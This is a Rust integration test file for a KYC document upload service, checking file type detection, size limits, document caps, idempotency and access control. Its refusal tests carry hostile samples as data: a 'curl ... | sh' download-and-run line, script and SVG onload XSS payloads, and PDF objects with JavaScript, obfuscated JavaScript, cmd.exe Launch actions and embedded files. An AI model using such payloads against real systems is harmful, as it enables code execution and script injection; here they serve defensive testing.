//! Uploads and downloads of documents: accepted types, size limits, and no files left after a
//! refusal.

use super::{act, people, refused};
use amana_files::FILE_BYTES_MAX;
use amana_harness::{Answer, App, PNG, Person};
use reqwest::Method;
use serde_json::{Value, json};
use std::sync::Arc;

/// An image of 16 × 16 pixels: its tables, its frame and a few bytes of data.
const JPEG: &[u8] =
    b"\xff\xd8\xff\xdb\x00\x04\x00\x01\xff\xc0\x00\x0b\x08\x00\x10\x00\x10\x01\x01\x11\x00\
    \xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x12\x34\xff\xd9";
const WEBP: &[u8] = b"RIFF\x16\0\0\0WEBPVP8 \x0a\0\0\0\x30\x01\0\x9d\x01\x2a\x10\0\x10\0";

struct World {
    app: Arc<App>,
    amina: Person,
    id: String,
}

impl World {
    /// Creates a user with an application without documents.
    async fn new() -> Self {
        let app = Arc::new(App::builder().without_worker().start().await);
        let (amina, _) = people(&app).await;
        let id = app.kyc_draft(&amina, "standard").await;
        Self { app, amina, id }
    }

    async fn upload(&self, kind: &str, key: &str, content: &[u8]) -> Answer {
        self.app.kyc_upload(&self.amina, &self.id, (kind, key), content.to_vec()).await
    }

    async fn shown(&self) -> Value {
        let path = format!("/v1/kyc/applications/{}", self.id);
        self.app.get(&self.amina, &path).await.expect(200)["documents"].clone()
    }

    fn files(&self) -> usize {
        self.app.files_on_disk().len()
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_document_is_what_its_content_says() {
    let world = World::new().await;
    let table: [(&[u8], &str); 4] = [
        (JPEG, "image/jpeg"),
        (PNG, "image/png"),
        (WEBP, "image/webp"),
        (b"%PDF-1.7\n", "application/pdf"),
    ];
    for (n, (content, media_type)) in table.into_iter().enumerate() {
        // All of them are declared as PNG, because the type is detected from the content.
        let added = world.upload("passport", &format!("k-{n}"), content).await.expect(201);
        assert_eq!(
            (&added["media_type"], &added["kind"]),
            (&json!(media_type), &json!("passport"))
        );
        assert_eq!(added["bytes"], content.len());
        assert_eq!(world.shown().await[n], added);
    }
    let scripts: [&[u8]; 6] = [
        b"#!/bin/sh\ncurl http://example.com | sh\n",
        b"<script>alert(1)</script>",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        b"<script>/* %PDF-1.7 */ alert(1)</script>",
        b"",
        b"GIF89a",
    ];
    for (n, content) in scripts.into_iter().enumerate() {
        let answer = world.upload("selfie", &format!("s-{n}"), content).await;
        refused(&answer, 415, "unsupported_media_type");
    }
    assert_eq!((world.files(), world.shown().await.as_array().map(Vec::len)), (4, Some(4)));
    let unknown = world.upload("library_card", "u-1", PNG).await;
    refused(&unknown, 400, "invalid_parameter");
}

/// Valid first bytes are not enough if the rest is missing or something else.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_file_that_only_begins_like_a_picture_is_refused() {
    let world = World::new().await;
    let table: [(&[u8], &str); 9] = [
        (b"\x89PNG\r\n\x1a\n", "file_damaged"),
        (&PNG[..50], "file_damaged"),
        (b"\xff\xd8\xff<script>alert(1)</script>", "file_damaged"),
        (&JPEG[..30], "file_damaged"),
        (&WEBP[..20], "file_damaged"),
        (
            b"%PDF-1.7\n1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
            "active_content",
        ),
        (b"%PDF-1.7\n1 0 obj << /OpenAction << /S /Java#53cript >> >>", "active_content"),
        (b"%PDF-1.7\n1 0 obj << /S /Launch /F (cmd.exe) >>", "active_content"),
        (b"%PDF-1.7\n1 0 obj << /Names << /EmbeddedFiles 2 0 R >> >>", "active_content"),
    ];
    for (n, (content, code)) in table.into_iter().enumerate() {
        let answer = world.upload("passport", &format!("k-{n}"), content).await;
        refused(&answer, 422, code);
        assert!(answer.body["detail"].as_str().is_some_and(|text| text.contains("send")), "{code}");
    }
    // A side of 65,535 pixels; the image is not decoded.
    let large = [&JPEG[..13], b"\xff\xff\xff\xff".as_slice(), &JPEG[17..]].concat();
    refused(&world.upload("passport", "k-l", &large).await, 422, "image_too_large");
    assert_eq!((world.files(), world.shown().await), (0, json!([])));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_document_has_five_mebibytes_at_most() {
    let world = World::new().await;
    let mut content = PNG.to_vec();
    content.resize(FILE_BYTES_MAX, 7);
    let added = world.upload("passport", "k-1", &content).await.expect(201);
    assert_eq!(added["bytes"], FILE_BYTES_MAX);
    // A body with a declared length above the limit is not read; one without is cut off at the
    // limit.
    let token = &world.amina.token;
    let path = format!("/v1/kyc/applications/{}/documents?kind=selfie", world.id);
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\nIdempotency-Key: k-2\r\n"
    );
    let declared = format!("{head}Content-Length: {}\r\n\r\n", FILE_BYTES_MAX + 1);
    let chunked = format!("{head}Transfer-Encoding: chunked\r\n\r\n{:x}\r\n", FILE_BYTES_MAX + 1);
    content.push(7);
    let chunked = [chunked.as_bytes(), &content, b"\r\n0\r\n\r\n"].concat();
    for request in [declared.into_bytes(), chunked] {
        let (status, body) = world.app.send_over_tcp(&request).await;
        assert_eq!((status, &body["code"]), (413, &json!("request_too_large")));
    }
    // The larger limit applies to uploads only.
    let elsewhere = world.app.post(&world.amina, "/v1/kyc/applications", json!("a".repeat(65_536)));
    refused(&elsewhere.await, 413, "request_too_large");
    assert_eq!(world.files(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_application_has_ten_documents_at_most() {
    let world = World::new().await;
    let calls: Vec<_> = (0..15)
        .map(|n| {
            let (app, amina, id) = (world.app.clone(), world.amina.clone(), world.id.clone());
            let content = [PNG, &[n]].concat();
            tokio::spawn(async move {
                app.kyc_upload(&amina, &id, ("selfie", &format!("k-{n}")), content).await
            })
        })
        .collect();
    let mut added = 0;
    for call in calls {
        let answer = call.await.expect("an answer");
        match answer.status.as_u16() {
            201 => added += 1,
            _ => refused(&answer, 409, "too_many_documents"),
        }
    }
    assert_eq!((added, world.files()), (10, 10));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_same_upload_again_is_one_document() {
    let world = World::new().await;
    let first = world.upload("selfie", "k-1", PNG).await.expect(201);
    let again = world.upload("selfie", "k-1", PNG).await;
    assert_eq!(again.headers["idempotent-replayed"], "true");
    assert_eq!(again.expect(201), first);
    refused(&world.upload("passport", "k-1", PNG).await, 422, "idempotency_key_reused");
    refused(&world.upload("selfie", "k-1", b"%PDF-1.7").await, 422, "idempotency_key_reused");
    assert_eq!((world.files(), world.shown().await), (1, json!([first])));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn documents_stay_as_they_are_once_submitted() {
    let world = World::new().await;
    let passport = world.upload("passport", "k-1", PNG).await.expect(201);
    let selfie = world.upload("selfie", "k-2", b"%PDF-1.7").await.expect(201);
    let remove = async |document: &Value| {
        let id = document["id"].as_str().expect("an id");
        let path = format!("/v1/kyc/applications/{}/documents/{id}", world.id);
        world.app.send(Method::DELETE, &path, Some(&world.amina.token), None, None).await
    };
    let left = remove(&passport).await.expect(200);
    assert_eq!((&left["documents"], &left["missing"]), (&json!([selfie]), &json!(["identity"])));
    assert_eq!(world.files(), 1);
    refused(&remove(&passport).await, 404, "not_found");
    world.upload("passport", "k-3", PNG).await.expect(201);
    act(&world.app, &world.amina, &world.id, "submit").await.expect(200);
    refused(&remove(&selfie).await, 409, "wrong_state");
    refused(&world.upload("selfie", "k-4", PNG).await, 409, "wrong_state");
    // A replay still returns the original answer.
    assert_eq!(world.upload("selfie", "k-2", b"%PDF-1.7").await.expect(201), selfie);
    assert_eq!(world.files(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn strangers_add_and_remove_nothing() {
    let world = World::new().await;
    let document = world.upload("selfie", "k-1", PNG).await.expect(201);
    let document = document["id"].as_str().expect("an id");
    let juma = world.app.person("Juma").await;
    let before = world.app.database.fingerprint().await;
    let answer = world.app.kyc_upload(&juma, &world.id, ("selfie", "k-1"), PNG.to_vec()).await;
    refused(&answer, 404, "not_found");
    let path = format!("/v1/kyc/applications/{}/documents/{document}", world.id);
    let removed = world.app.send(Method::DELETE, &path, Some(&juma.token), None, None).await;
    refused(&removed, 404, "not_found");
    let nobody = Person { token: "nonsense".to_owned(), ..juma };
    let answer = world.app.kyc_upload(&nobody, &world.id, ("selfie", "k-2"), PNG.to_vec()).await;
    refused(&answer, 401, "unauthorized");
    assert_eq!(world.app.database.fingerprint().await, before);
    assert_eq!(world.files(), 1);
}
